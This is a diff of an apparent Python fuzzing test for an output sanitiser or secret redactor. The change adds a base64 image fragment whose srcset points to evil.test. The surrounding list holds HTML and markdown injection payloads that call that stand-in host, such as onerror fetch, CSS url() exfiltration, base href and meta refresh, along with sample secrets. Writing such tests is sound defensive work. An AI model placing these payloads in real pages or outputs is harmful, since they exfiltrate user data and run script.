@@ -34,6 +34,7 @@ PEM = (
     + "-----END RSA PRIVATE KEY-----"
 )
 RANDOM = b64encode(Random(5).randbytes(300)).decode()
+PICTURE = b64encode(Random(6).randbytes(2_700)).decode()
 PIECES = [
     "\\u200b", "\\udb40\\udc67", "\\udb40", "\\\\u200b", "\\u", "\\u20", "\\u0041", "\\ud83d\\ude00", "<img '" + "a" * 3500, "![" + "b " * 700, "!(", '![a](http://x.test/?q=1 "t"x)', "![a](http://x.test/?q=1 no)", "plain words ", "Hello", ",", " ", "\n", "\n\n", "!", "![", "](", ")", "[", "]", "<", ">", "<img src='", "`", "```", "```\n", "~~~\n",
     KEY, KEY[:20], KEY[20:], PEM, PEM[:40], PEM[40:90], "-----BEGIN ", "--", "my password is ", "hunter2X!", "sunshine", "pass", "word: ",
@@ -44,7 +45,7 @@ PIECES = [
     "\u0645\u06cc\u200c\u062e", "\u0915\u094d\u200d\u0937", "\u00e9", "\u4f60\u597d", "\u03a3", EMAIL, EMAIL[:9], EMAIL[9:], "[EM", "ada@example.org", "4111 1111 1111 1111", "4111", "1111",
     "born on 12 March 1990", "10.1.2.3", CANARY, CANARY[:5], CANARY[5:], *(f"{word} " for word in SYSTEM.split()[:8]), SYSTEM, "0123456789abcdef" * 30,
     "<b ", "<x-y onclick=", "onerror=\"fetch(name)\"", " style='background:url(//evil.test/?q=1)'", "<style>", "</style>", "</sty", "p { color: red }", "url(//evil.test/?d=1)", "}",
-    "<base href=//evil.test>", "<meta http-equiv=refresh content='0;url=//evil.test'>", "<a href=javascript:eval(name)>", "= '", "<b " + "c " * 520, "x" * 3_300, "<T>", "@import ",
+    "<base href=//evil.test>", "<meta http-equiv=refresh content='0;url=//evil.test'>", "<a href=javascript:eval(name)>", "= '", "<b " + "c " * 520, "<img src='data:image/png;base64," + PICTURE, PICTURE, "' srcset='//evil.test/?d=1'", "x" * 3_300, "<T>", "@import ",
     "loop of words again ", "javascript:alert(1)", "](javascript:x)", "\\n", "\\", "\"", "'", RANDOM, "data:image/png;base64,", "AAAAB3NzaC1yc2E", "-----BEGIN CERTIFICATE-----", "````\n", "{\"a\": ", "1" * 16, "(", "?", ";", "-----END RSA PRIVATE KEY-----", "=", ": ",
 ]  # fmt: skip
 
